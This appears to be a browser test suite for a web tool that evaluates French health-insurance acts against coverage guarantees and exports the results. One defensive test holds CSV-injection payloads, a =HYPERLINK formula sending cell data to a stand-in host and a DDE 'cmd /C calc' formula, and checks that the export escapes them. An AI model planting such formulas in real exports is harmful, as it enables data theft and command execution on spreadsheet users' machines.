// The Simulate view: a file of acts becomes the numbers that the package gives, and the rows to look at.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import {
  actsFile, choose, counts, coverage, downloadedFrom, exampleFile, meaningOf, openSimulate, OUTCOME_CODES, plain, repeated, result, rowsToLookAt, strict, table, WORDS,
} from "./simulate-panel.mjs";
import { chooseFiles, dropFiles, eventually, file, holdReadings, openExample, openPage, outcomeOf, rule, startBrowser, writeText } from "./browser.mjs";

let browser;
before(async () => (browser = await startBrowser()));
after(() => browser.stop());

async function openExampleFile(options = {}) {
  const page = await openPage(browser, { fragment: "#simulate", ...options });
  await page.getByRole("button", { name: "Try an example file" }).click();
  await result(page, "example-acts.csv").waitFor();
  return page;
}

/** The numbers of the page are those of the package for the same text. */
async function assertCounts(page, text, format) {
  const { summary } = coverage.evaluateText(text, format);
  const byOutcome = Object.fromEntries(OUTCOME_CODES.map((code) => [WORDS[code], summary.by_outcome[code]]));
  await eventually(async () => assert.deepEqual(sorted(await counts(page, "By outcome")), sorted(byOutcome)));
  const more = page.getByRole("region", { name: "By guarantee" }).getByRole("button", { name: /^Show/ });
  if (await more.isVisible()) await more.click();
  await eventually(async () => assert.deepEqual(sorted(await counts(page, "By guarantee")), sorted(summary.by_guarantee)));
}

const sorted = (object) => Object.entries(object).sort();
const lookAt = (page, words) => page.getByRole("group", { name: "Which rows are listed" }).getByRole("button", { name: words }).click();

test("the example file: from nothing to numbers, bars and rows", async () => {
  const page = await openExampleFile();
  assert.match(page.url(), /#simulate$/);
  await page.getByText("240 acts: 142 covered (59.2%), 48 to look at. By CONFORT, version 3").waitFor();
  await assertCounts(page, strict(exampleFile), "csv");
  await eventually(async () => {
    const rows = await table(page, "By outcome").locator("tbody tr").allInnerTexts();
    assert.deepEqual(plain(rows[0]), "Covered 142 59.2%");
  });
  // The bars have the lengths of the numbers.
  const lengths = await table(page, "By outcome").locator("path[class^=bar-]").evaluateAll((bars) => bars.map((bar) => bar.getBBox().width));
  const numbers = Object.values(await counts(page, "By outcome"));
  lengths.forEach((length, index) => assert.ok(Math.abs(length - Math.max(0.5, (numbers[index] / 142) * 100)) < 0.1, `${length} for ${numbers[index]}`));
  assert.deepEqual(page.errors, []);
});

test("the same acts as NDJSON, with semicolons, or under a name that says nothing, give the same numbers", async () => {
  const page = await openSimulate(browser);
  const [header, ...lines] = exampleFile.trimEnd().split("\n");
  const semicolons = [header, ...lines].map((line) => line.replaceAll(",", ";")).join("\r\n");
  await choose(page, actsFile("semicolons.csv", semicolons));
  await result(page, "semicolons.csv").waitFor();
  await assertCounts(page, semicolons.replaceAll(";yes;", ";true;"), "csv");
  const ndjson = '{"care_type":"GP_VISIT","member_age":44,"is_optam_or_secteur_1":true,"reimbursed_by_secu":true}\n\n{"care_type":"GP_VISIT"}\n{]\n{"care_type":"NOPE"}';
  for (const name of ["acts.ndjson", "acts.JSONL", "acts.txt"]) {
    await choose(page, actsFile(name, ndjson));
    await result(page, name).waitFor();
    await eventually(async () => assert.equal(await page.getByRole("combobox", { name: "Format" }).inputValue(), "ndjson"));
    await assertCounts(page, ndjson, "ndjson");
  }
  await choose(page, actsFile("noname", exampleFile));
  await result(page, "noname").waitFor();
  await eventually(async () => assert.equal(await page.getByRole("combobox", { name: "Format" }).inputValue(), "csv"));
});

test("a format that was guessed wrong is corrected", async () => {
  const page = await openSimulate(browser);
  await choose(page, actsFile("acts.csv", '{"care_type":"GP_VISIT"}\n{"care_type":"NOPE"}'));
  await page.locator(".file-columns").getByText("Say which column has the type of care.").waitFor();
  await page.getByRole("combobox", { name: "Format" }).selectOption("ndjson");
  await page.getByText("2 acts: 0 covered (0.0%), 2 to look at.").waitFor();
});

test("the format is corrected while what was asked first is still on its way", async () => {
  const page = await openSimulate(browser, { prepare: holdReadings });
  let release;
  const released = new Promise((resolve) => (release = resolve));
  await page.route("**/headings-*.json", (route) => released.then(() => route.continue()));
  await choose(page, actsFile("acts.csv", '{"care_type":"GP_VISIT"}\n{"care_type":"NOPE"}'));
  await page.locator(".file-columns").getByText("Say which column has the type of care.").waitFor();
  // The file is read again, and meanwhile what waits to compute it as it was chosen goes on.
  await page.evaluate(() => globalThis.readings.hold());
  await page.getByRole("combobox", { name: "Format" }).selectOption("ndjson");
  await page.waitForFunction(() => globalThis.readings.waiting > 0);
  release();
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
  await page.evaluate(() => globalThis.readings.release());
  await page.getByText("2 acts: 0 covered (0.0%), 2 to look at.").waitFor();
});

test("rows to look at: each with its place, what it says and why, and the way into the Act view", async () => {
  const page = await openExampleFile();
  // What cannot be read comes first.
  await eventually(async () => assert.equal(await rowsToLookAt(page).count(), 3));
  await eventually(async () => assert.equal(plain(await rowsToLookAt(page).nth(1).innerText()), "105 line 106 CARDIOLOGIST_VISIT,,,forty,CARDIOLOGIST,,true,,,,,,, Age It is no age in years."));
  await eventually(async () => assert.match(plain(await rowsToLookAt(page).nth(2).innerText()), /^167 line 168 .* Its cells are not those of the header\.$/));

  await lookAt(page, /Unknown care type/);
  await eventually(async () => assert.match(plain(await rowsToLookAt(page).filter({ hasText: "CROWM" }).innerText()), /CROWM .* CROWM is not in the catalogue\. Open$/));
  await lookAt(page, /Ambiguous/);
  await eventually(async () => assert.match(plain(await rowsToLookAt(page).first().innerText()), /2 guarantees cover this act at once: ORTHODONTICS_YOUNG and ORTHODONTICS_ADULT\./));

  await lookAt(page, /Not decided yet/);
  await eventually(async () => assert.equal(await rowsToLookAt(page).count(), 10));
  await page.getByRole("button", { name: "Show 29 more" }).click();
  await eventually(async () => assert.equal(await rowsToLookAt(page).count(), 39));
  await eventually(async () => assert.equal(
    plain(await rowsToLookAt(page).first().innerText()),
    "3 line 4 Consultation chez le cardiologue CARDIOLOGIST_VISIT age: 58, practitioner: Cardiologist, reimbursed by the Sécu: yes DOCTORS_OPTAM or DOCTORS_NON_OPTAM may cover this act. Not known: OPTAM or secteur 1. Open",
  ));
  await page.getByRole("button", { name: "Open row 3 in the Act view" }).click();
  await outcomeOf(page).getByText("DOCTORS_OPTAM or DOCTORS_NON_OPTAM may cover this act.").waitFor();
  await page.getByText("Row 3 of example-acts.csv is in the form.").waitFor();
  assert.match(page.url(), /#act$/);
  await eventually(async () => assert.ok(await outcomeOf(page).evaluate((area) => area.contains(document.activeElement))));
  await page.getByRole("link", { name: "Simulate" }).click();
  await result(page, "example-acts.csv").waitFor();
  await eventually(async () => assert.equal(await rowsToLookAt(page).count(), 39));
  assert.deepEqual(page.errors, []);
});

test("of many rows the first 100 are listed", async () => {
  const page = await openSimulate(browser);
  await choose(page, actsFile("many.csv", `care_type\n${"NOPE\n".repeat(250)}`));
  await result(page, "many.csv").waitFor();
  await page.getByText("The first 100 of 250. The downloaded file has the others.").waitFor();
  for (const more of ["Show 50 more", "Show 40 more"]) await page.getByRole("button", { name: more }).click();
  await eventually(async () => assert.equal(await rowsToLookAt(page).count(), 100));
});

test("where every row is decided, there is nothing to look at", async () => {
  const page = await openSimulate(browser);
  await choose(page, actsFile("good.csv", "care_type,member_age,is_optam_or_secteur_1,reimbursed_by_secu\nGP_VISIT,44,true,true\n"));
  await page.getByText("1 act: 1 covered (100.0%), none to look at.").waitFor();
  await page.getByText("Every row was decided: nothing to look at.").waitFor();
});

test("the file is downloaded with its results: every row as it was, with its outcome and guarantee", async () => {
  const page = await openSimulate(browser);
  const text = repeated(45_000);
  await choose(page, actsFile("many.acts.csv", text));
  await result(page, "many.acts.csv").waitFor();
  const downloaded = await downloadedFrom(page);
  assert.equal(downloaded.name, "many.acts-result.csv");
  const { outcomes, guarantees } = coverage.evaluateText(strict(text), "csv");
  const names = coverage.guaranteeNames;
  const [header, ...rows] = text.split("\n");
  // A row that lacks a cell gets it, so that the answers are in their columns.
  const width = header.split(",").length;
  const expected = rows.map((row, index) => `${row}${",".repeat(width - row.split(",").length)},${WORDS[OUTCOME_CODES[outcomes[index]]]},${names[guarantees[index]] ?? ""}`);
  assert.deepEqual(downloaded.text.split("\n"), [`${header},Outcome,Guarantee`, ...expected, ""]);
});

test("names of guarantees that a spreadsheet would take for formulas are only texts in the downloaded result", async () => {
  const cells = {
    '=HYPERLINK("http://x"&A1,"x")': `"'=HYPERLINK(""http://x""&A1,""x"")"`,
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1": "'+1",
    "-1": "'-1",
    "\tTAB": `"'\tTAB"`,
    "\rCR": `"'\rCR"`,
    "＝1": "'＝1",
    "a;=1": `"a;'=1"`,
    "DENTAL, care": '"DENTAL, care"',
  };
  const names = Object.keys(cells);
  const catalog = {
    care_type_groups: [{ id: 1, short_code: "ALL" }],
    internal_care_types: names.map((_, index) => ({ id: index + 1, short_code: `TYPE_${index}`, care_type_group_ids: [1] })),
  };
  const guarantees = names.map((name, index) => ({ name, care_type_mappings: [{ selector: { include_care_types: [`TYPE_${index}`] }, filter: {} }], coverage_rule: rule }));
  const page = await openPage(browser, { fragment: "#simulate" });
  await chooseFiles(page, file("types.json", catalog), file("coverage.json", { name: "ODD", version: 1, guarantees }));
  await page.getByText("The coverage is loaded: coverage.json.").waitFor();
  await choose(page, actsFile("acts.csv", `sep=;\ncare_type\n${names.map((_, index) => `TYPE_${index}\n`).join("")}`));
  await result(page, "acts.csv").waitFor();
  const rows = Object.values(cells).map((cell, index) => `TYPE_${index};Covered;${cell}`);
  assert.equal((await downloadedFrom(page)).text, ["\ufeffsep=;", "care_type;Outcome;Guarantee", ...rows, ""].join("\n"));
  assert.deepEqual(page.errors, []);
});

test("a file that is dropped in any view is evaluated, one at a time; documents are loaded as everywhere", async () => {
  const page = await openSimulate(browser, { fragment: "#coverage" });
  await dropFiles(page, actsFile("dropped.csv", exampleFile), actsFile("second.ndjson", "{}"));
  await result(page, "dropped.csv").waitFor();
  assert.match(page.url(), /#simulate$/);
  await page.getByText("One file is evaluated at a time. Left out: second.ndjson.").waitFor();
  // In this view, what is not named as JSON is a file of acts.
  await dropFiles(page, actsFile("acts.txt", exampleFile));
  await result(page, "acts.txt").waitFor();
  await dropFiles(page, actsFile("small.json", '{ "name": "SMALL", "version": 1, "guarantees": [] }'));
  await page.getByText("The coverage is loaded: small.json.").waitFor();
  assert.deepEqual(page.errors, []);
});

test("a file that is dropped before there is a coverage waits for it, and is evaluated once there is one", async () => {
  const page = await openPage(browser);
  await dropFiles(page, actsFile("early.csv", exampleFile));
  await page.getByRole("main").getByText("early.csv waits for a coverage that can be read. A file of acts is evaluated by a coverage.").waitFor();
  await page.getByRole("button", { name: "Load the example" }).click();
  await result(page, "early.csv").waitFor();
  await assertCounts(page, strict(exampleFile), "csv");
});

test("a coverage that is edited evaluates the file again by itself; one that cannot be read leaves the result as of before", async () => {
  const page = await openExampleFile();
  await page.getByRole("link", { name: "Coverage" }).click();
  await writeText(page, JSON.stringify({ name: "EMPTY", version: 9, guarantees: [] }));
  await page.getByRole("link", { name: "Simulate" }).click();
  await page.getByText("0 covered (0.0%), 7 to look at. By EMPTY, version 9").waitFor();
  await page.getByText("This coverage has no guarantees.").waitFor();
  await eventually(async () => assert.equal(await page.getByText("has changed since").count(), 0));
  await page.getByRole("link", { name: "Coverage" }).click();
  await writeText(page, "{");
  await page.getByRole("link", { name: "Simulate" }).click();
  await page.getByText("The catalogue or the coverage has changed since example-acts.csv was evaluated.").waitFor();
  await page.getByText("By EMPTY, version 9").waitFor();
  await page.getByText("The coverage cannot be read at the moment, so no file can be evaluated by it.").waitFor();
  await eventually(async () => assert.ok(await page.getByRole("button", { name: "Evaluate again" }).isDisabled()));
  await choose(page, actsFile("more.csv", exampleFile));
  await page.getByRole("region", { name: "more.csv waits for a coverage that can be read." }).waitFor();
  await page.getByRole("link", { name: "See what is wrong in the Coverage view" }).click();
  await page.getByText("This is not valid JSON yet").first().waitFor();
  assert.deepEqual(page.errors, []);
});

test("establishments without a contract count, as in the Act view", async () => {
  const page = await openSimulate(browser);
  const text = "care_type,member_age,establishment,reimbursed_by_secu\nSTAY_SURGICAL,40,990000027,true\n";
  await choose(page, actsFile("stays.csv", text));
  await result(page, "stays.csv").waitFor();
  await rowsToLookAt(page).filter({ hasText: "établissement conventionné" }).first().waitFor();
  await page.getByRole("button", { name: "Open row 1 in the Act view" }).click();
  await page.getByText("Establishments without a contract").click();
  await page.getByRole("textbox", { name: "Establishments without a contract" }).fill("990000027");
  await page.getByRole("link", { name: "Simulate" }).click();
  await page.waitForFunction(() => !document.body.textContent.includes("has changed since") && !document.querySelector("progress"));
  await eventually(async () => assert.equal(await page.getByText(/Not known: .*établissement conventionné/).count(), 0));
});

test("guarantees are found by name", async () => {
  const page = await openExampleFile();
  await page.getByRole("searchbox", { name: "Find a guarantee" }).fill("ortho");
  await eventually(async () => assert.deepEqual(Object.keys(await counts(page, "By guarantee")), ["ORTHODONTICS_ADULT", "ORTHODONTICS_YOUNG"]));
  await page.getByRole("searchbox", { name: "Find a guarantee" }).fill("nothing like it");
  await page.getByText("No guarantee has “nothing like it” in its name.").waitFor();
});

test("the fields that the view names are those that the engine reads", async () => {
  const page = await openSimulate(browser);
  await page.getByText("What such a file looks like").click();
  const named = await page.locator(".file-fields code").allInnerTexts();
  // Claims are acts that say whose they are, and how many they stand for.
  const fields = named.filter((field) => !["person", "family", "weight"].includes(field));
  assert.equal(named.length, fields.length + 3);
  assert.equal(coverage.evaluateText(`${fields.join(",")}\n`, "csv").length, 0);
  assert.ok(["care_type", "care_date", "teeth", "establishment", "reimbursed_by_secu"].every((field) => fields.includes(field)));
  const [csv, ndjson] = await page.locator(".file-help pre").allInnerTexts();
  for (const [name, text] of [["help.csv", csv], ["help.ndjson", ndjson]]) {
    await choose(page, actsFile(name, text));
    await result(page, name).waitFor();
    const found = await counts(page, "By outcome");
    assert.deepEqual([found["Cannot be read"], found["Unknown care type"]], [0, 0]);
  }
});

/** As a French spreadsheet saves it: semicolons, CRLF, Windows-1252, decimal commas, dates with the day first. */
const spreadsheet = (rows) => {
  const text = ["Code acte;Libellé;Date de soins;Âge;Praticien;OPTAM;Remboursé;Montant facturé;BR;Taux;N° dossier", ...rows].join("\r\n");
  return { name: "actes.csv", mimeType: "", buffer: Buffer.from(Array.from(text, (letter) => (letter === "€" ? 0x80 : letter.charCodeAt(0)))) };
};
const ROWS = [
  'GP_VISIT;Consultation;12/03/2026;44;Omnipraticien;oui;VRAI;"60,50 €";30;70;A1',
  "gp_visit;Consultation;12/03/2026;44 ans;;non;x;30,00;30;70;A2",
  "GP_VISIT;été;12/03/2026;quarante;;peut-être;oui;30,00;30;70;A3",
  "GP_VISIT;été;12/03/2026;quarante;;oui;oui;30,00;30;70;A4",
  "CROWM;couronne;12/03/2026;44;;oui;oui;680;120;70;A5",
  "GP_VISIT;;12/03/2026;44;;oui;oui;30;;70;A6",
];

test("a file as a French spreadsheet saves it: columns are guessed, values read, what each pays is summed", async () => {
  const page = await openSimulate(browser);
  await choose(page, spreadsheet(ROWS));
  await result(page, "actes.csv").waitFor();
  await page.getByText("6 acts: 3 covered (50.0%), 3 to look at.").waitFor();
  for (const [heading, field] of [["Code acte", "care_type"], ["Libellé", ""], ["Âge", "member_age"], ["Montant facturé", "charged"], ["BR", "brss"], ["N° dossier", ""]]) {
    await eventually(async () => assert.equal(await meaningOf(page, heading).inputValue(), field, heading));
  }
  const act = (charged, optam) => ({
    care_type: "GP_VISIT", member_age: 44, reimbursed_by_secu: true, care_date: "2026-03-12", is_optam_or_secteur_1: optam, brss: "30", secu_rate_percent: "70", beneficiary: "x", charged,
  });
  const [first, second] = [coverage.reimburse(act("60.50", true)), coverage.reimburse(act("30.00", false))];
  const sum = (name) => (Number(first.amounts[name]) + Number(second.amounts[name])).toFixed(2);
  await eventually(async () => {
    const totals = plain(await table(page, "Who pays").locator("tfoot tr").innerText());
    assert.equal(totals, `All 2 90.50 € ${sum("secu_paid")} € ${sum("complementary")} € ${sum("out_of_pocket")} €`);
  });
  await page.getByText("limits, such as sessions a year, are not counted across rows").waitFor();
  await page.getByText("Base of the Sécu: missing in 1 row").waitFor();
  const { name, text } = await downloadedFrom(page);
  assert.equal(name, "actes-result.csv");
  const lines = text.split("\r\n");
  assert.equal(lines[0], "\ufeffCode acte;Libellé;Date de soins;Âge;Praticien;OPTAM;Remboursé;Montant facturé;BR;Taux;N° dossier;Outcome;Guarantee;Paid by the Sécu;Paid by the coverage;Left to pay;Not known");
  const comma = (amount) => amount.replace(".", ",");
  const { amounts, guarantee } = first;
  assert.equal(lines[1], `${ROWS[0]};Covered;${guarantee};${comma(amounts.secu_paid)};${comma(amounts.complementary)};${comma(amounts.out_of_pocket)};`);
  assert.equal(lines[3], `${ROWS[2]};Cannot be read;;;;;`);
  assert.deepEqual(page.errors, []);
});

test("what is wrong is grouped by kind, with values, rows and what to do; unknown codes and missing facts, too", async () => {
  const page = await openSimulate(browser);
  await choose(page, spreadsheet(ROWS));
  await result(page, "actes.csv").waitFor();
  await eventually(async () => {
    const kinds = (await table(page, "What cannot be read").locator("tbody tr").allInnerTexts()).map(plain);
    assert.equal(kinds[0], "Age · Âge It is no age in years. Such as “quarante”. 2 3 · 4 Write completed years, from 0 to 130.");
    assert.match(kinds[1], /^OPTAM or secteur 1 · OPTAM It is neither yes nor no\. Such as “peut-être”\. 1 3 Write oui or non/);
  });
  await eventually(async () => assert.match(plain(await table(page, "Codes that the catalogue does not have").locator("tbody tr").innerText()), /^CROWM 1 5/));
  await meaningOf(page, "OPTAM").selectOption("");
  await page.getByRole("heading", { name: "Why rows are not decided" }).waitFor();
  await eventually(async () => {
    const missing = (await table(page, "Why rows are not decided").locator("tbody tr").allInnerTexts()).map(plain);
    assert.deepEqual(missing, ["OPTAM or secteur 1 3 no column says it"]);
  });
});

test("columns are mapped by picking: without a care type nothing is evaluated, a picked meaning leaves its other column", async () => {
  const page = await openSimulate(browser);
  await choose(page, actsFile("odd.csv", "one\ttwo\tage\nGP_VISIT\t44\t12\n"));
  await page.locator(".file-columns").getByText("Say which column has the type of care.").waitFor();
  await eventually(async () => assert.equal(await result(page, "odd.csv").count(), 0));
  await meaningOf(page, "one").selectOption("care_type");
  await result(page, "odd.csv").waitFor();
  await eventually(async () => assert.equal(await meaningOf(page, "age").inputValue(), "member_age"));
  await meaningOf(page, "two").selectOption("member_age");
  await eventually(async () => assert.equal(await meaningOf(page, "age").inputValue(), ""));
  await page.getByRole("heading", { name: "Rows to look at" }).waitFor();
  await rowsToLookAt(page).filter({ hasText: "age: 44" }).waitFor();
});

test("a reload keeps the file and what was picked for its columns", async () => {
  const page = await openSimulate(browser);
  await choose(page, actsFile("odd.csv", "one;two\nGP_VISIT;44\n"));
  await meaningOf(page, "one").selectOption("care_type");
  await result(page, "odd.csv").waitFor();
  await page.getByText("A reload keeps it.").waitFor();
  await page.waitForTimeout(400);
  await page.reload();
  await result(page, "odd.csv").waitFor();
  await eventually(async () => assert.equal(await meaningOf(page, "one").inputValue(), "care_type"));
  await meaningOf(page, "two").selectOption("member_age");
  await page.waitForTimeout(400);
  const kept = await page.evaluate(() => new Promise((resolve) => {
    const opening = indexedDB.open("care-coverage-files");
    opening.onsuccess = () => (opening.result.transaction("files").objectStore("files").count().onsuccess = ({ target }) => resolve(target.result));
  }));
  assert.equal(kept, 1, "each change takes the place of the one before");
  assert.deepEqual(page.errors, []);
});

test("a browser that keeps no files says so", async () => {
  const page = await openSimulate(browser, { prepare: (page) => page.addInitScript(() => (indexedDB.open = () => { throw new DOMException("no", "SecurityError"); })) });
  await choose(page, actsFile("acts.csv", exampleFile));
  await result(page, "acts.csv").waitFor();
  await page.getByText("After a reload, choose it again: this browser does not keep it.").waitFor();
});

test("in French: a file from the spreadsheet to its results", async () => {
  const page = await openPage(browser, { fragment: "#simulate", context: await browser.context({ locale: "fr-FR" }) });
  await page.getByRole("button", { name: "Essayer un fichier d’exemple" }).click();
  await page.getByRole("heading", { name: "Résultat de exemple-actes.csv" }).waitFor();
  await choose(page, spreadsheet(ROWS));
  await page.getByRole("heading", { name: "Résultat de actes.csv" }).waitFor();
  const main = plain((await page.getByRole("main").innerText()).replaceAll("\u202f", " "));
  for (const words of ["6 actes : 3 couverts (50,0 %), 3 à regarder.", "Par décision", "Qui paie", "Reste à charge", "Ce qui est illisible", "Ce n’est pas un âge en années. Par exemple « quarante ».", "Lignes à regarder"]) {
    assert.ok(main.includes(words), words);
  }
  const { name, text } = await downloadedFrom(page, "Télécharger le fichier avec ses résultats");
  assert.equal(name, "actes-resultat.csv");
  assert.match(text.split("\r\n")[0], /;Décision;Garantie;Payé par la Sécu;Payé par la complémentaire;Reste à charge;Inconnu$/);
  assert.match(text.split("\r\n")[1], /;Couvert;DOCTORS_OPTAM;\d+,\d\d;/);
  assert.deepEqual(page.errors, []);
});

for (const width of [1440, 1024]) {
  test(`no hole next to a table, and no name broken, at ${width} px`, async () => {
    const page = await openExampleFile({ context: await browser.context({ viewport: { width, height: 900 } }) });
    const cards = await page.locator(".file-view > .card").evaluateAll((cards) => cards.map((card) => card.getBoundingClientRect().toJSON()));
    for (const [index, card] of cards.entries()) if (index > 0) assert.ok(card.top - cards[index - 1].bottom < 48, `card ${index}`);
    const heights = await table(page, "By guarantee").locator("tbody th").evaluateAll((names) => names.map((name) => name.firstChild && name.getBoundingClientRect().height));
    assert.ok(Math.max(...heights) < 2 * Math.min(...heights), heights.join());
  });
}
